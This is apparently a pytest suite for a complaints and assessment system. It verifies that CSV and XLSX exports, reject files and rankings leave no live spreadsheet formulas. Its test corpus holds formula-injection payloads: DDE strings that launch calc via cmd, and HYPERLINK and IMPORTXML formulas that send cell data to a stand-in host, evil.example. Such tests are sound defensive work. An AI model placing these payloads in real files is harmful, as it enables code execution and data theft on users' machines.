"""No file that leaves the house holds a formula: one corpus of what people tried, through every writer there is."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from accountability.documents import xlsx
from accountability.documents.content import Cell, Content, Para, Table
from accountability.models import Employee
from accountability.spreadsheets.cells import MARK, add_row, csv_lines, is_risky, new_book
from assessment.actions import export_files
from assessment.bulletins.workbook import workbook_of
from assessment.dashboards.downloads import as_csv, as_xlsx
from assessment.exports.xlsx_stream import Streamed
from assessment.models import Ranking
from assessment.rankings.workbook import book_of
from complaints.importing.rejects import RejectFile
from tests.assessment.exports.made_exports import Exports, content
from tests.assessment.rankings.made_rankings import Rankings
from tests.factories import Now, Play, listed

pytestmark = [pytest.mark.lesson(14), pytest.mark.asvs("1.2.10")]

BEFORE = ("", " ", "   ", "\t", "\r", "\n", "\r\n", "\u3000", "\u00a0", "\ufeff", "\u200b", "\x00", "\x0b")
BODIES = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "=cmd|'/C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", '=HYPERLINK("http://evil.example/?"&A1,"看")', "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(\"http://evil.example\";\"//a\")", "=1+1\",=2+2,\"", "'=1+1", "\t", "=",
)  # fmt: skip
CORPUS = [before + body for before in BEFORE for body in BODIES]


def formulas_in_csv(text: str) -> list[str]:
    """Cells that a spreadsheet would reckon out, in a file read as one reads it."""
    rows = csv.reader(io.StringIO(text.removeprefix(MARK), newline=""))
    return [cell for row in rows for cell in row if is_risky(cell)]


def formulas_in_workbook(data: bytes) -> list[Any]:
    """Cells of the type formula, texts that would become one when edited, and formulas in the raw parts."""
    found: list[Any] = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                is_bare = isinstance(cell.value, str) and is_risky(cell.value) and not cell.quotePrefix
                found += [cell.value] if cell.data_type == "f" or is_bare else []
    with ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ />]", parts.read(name)):
                found.append(name)
    return found


def held(data: bytes) -> int:
    """How many of a workbook's cells hold a text."""
    sheets = load_workbook(io.BytesIO(data)).worksheets
    return sum(isinstance(cell.value, str) for sheet in sheets for row in sheet.iter_rows() for cell in row)


def a_paper() -> Content:
    rows = ((Cell("单位", is_head=True), Cell("件数", is_head=True)), *((Cell(text), Cell("1")) for text in CORPUS))
    return Content("bulletin", "=标题", number="=1", body=(Para("=开头"), Table(rows, heads=1)), signed="=署名")


def streamed(texts: list[str]) -> bytes:
    out = io.BytesIO()
    with Streamed(out, title="=1", mark="=1", author="=1") as sheet:
        sheet.row(texts, is_head=True)
        for text in texts:
            sheet.row([text])
    return out.getvalue()


def written(texts: list[str]) -> bytes:
    book, out = new_book(write_only=True), io.BytesIO()
    sheet = book.create_sheet("一")
    for text in texts:
        add_row(sheet, [text])
    book.save(out)
    return out.getvalue()


BOOKS: dict[str, Callable[[Employee, Any], bytes]] = {
    "cells": lambda who, at: written(CORPUS),
    "sheets": lambda who, at: streamed(CORPUS),
    "papers": lambda who, at: xlsx.render(a_paper()),
    "bulletin": lambda who, at: workbook_of(a_paper()),
    "dashboard": lambda who, at: as_xlsx("=1", [[text, 1] for text in CORPUS], who, at),
}


def a_person() -> Employee:
    """Who calls themselves a formula."""
    return Employee(username="=1+1", name="=1+1")


def test_the_corpus_is_what_it_says() -> None:
    assert (len(CORPUS), len([text for text in CORPUS if is_risky(text)]) > 200) == (234, True)


@pytest.mark.parametrize("name", BOOKS)
def test_no_workbook_holds_a_formula(name: str, now: Now) -> None:
    data = BOOKS[name](a_person(), now.at)
    assert (formulas_in_workbook(data), held(data) >= len(CORPUS) - 30) == ([], True)


def test_no_csv_holds_a_formula(now: Now) -> None:
    rows = [[text, "武汉"] for text in CORPUS]
    for text in ("".join(csv_lines(rows)), as_csv("=1", rows, a_person(), now.at).decode()):
        assert formulas_in_csv(text) == []


def test_what_an_import_rejected_holds_none(tmp_path: Path) -> None:
    file = RejectFile(tmp_path / "rejected.csv", ["=标题", "内容"])
    for line, text in enumerate(CORPUS, start=2):
        file.add(line, [text, text, text], "＝理由")
    file.close()
    text = (tmp_path / "rejected.csv").read_bytes().decode()
    assert formulas_in_csv(text) == []


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_no_export_holds_a_formula(play: Play, file_format: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """What customers said and colleagues typed, bare, and whatever else a column may say."""
    listed({f"{text}x"[:30].strip(): "WH" for text in CORPUS[:12]})
    for number, text in enumerate(CORPUS[:12]):
        play(
            "register",
            "kf.agent",
            customer=f"={number}",
            phone=f"138712300{number:02d}",
            content=f"{text}x",
            region=f"{text}x"[:30],
        )
    play.upto("delivered", phone="13871230099")
    play("set_unit", "sc.officer", code="WH", name="=1+1", kind="branch")
    exports = Exports(play)
    told: dict[str, Any] = {"unmasked": True, "unmask_reason": "=1", "reason": "=1", "format": file_format}
    check = formulas_in_workbook if file_format == "xlsx" else lambda data: formulas_in_csv(data.decode())
    assert check(content(exports.made(**told))) == []
    monkeypatch.setattr(export_files, "cells", lambda columns, row, bare: CORPUS[:30])
    for what in ("complaints", "rounds", "readings", "ledger"):
        assert check(content(exports.made("sj.auditor", what=what, format=file_format))) == []


def test_the_list_of_rounds_holds_none(play: Play) -> None:
    listed(dict.fromkeys(places := ("=1+1", "＝1+1", "@SUM(1)", "+1"), "WH"))
    for number, text in enumerate(places):
        play.upto("delivered", region=text, phone=f"138712300{number:02d}")
    text = content(Exports(play).made(what="rounds", reason="=1")).decode()
    assert (len(text.splitlines()), formulas_in_csv(text)) == (2 + 4, [])


def test_the_ranking_holds_none(rankings: Rankings, play: Play, now: Now) -> None:
    for code, name in {"WH": "=1+1", "YC": "+1+1", "XG": "@SUM(1)"}.items():
        play("set_unit", "sc.officer", code=code, name=name, kind="branch")
    ranking: Ranking = rankings.draft({"WH": (1, 1), "YC": (1, 2)})
    data = book_of(ranking, a_person(), now.at)
    assert formulas_in_workbook(data) == []
    names = {cell.value for sheet in load_workbook(io.BytesIO(data)).worksheets for row in sheet for cell in row}
    assert {"=1+1", "+1+1"} <= names
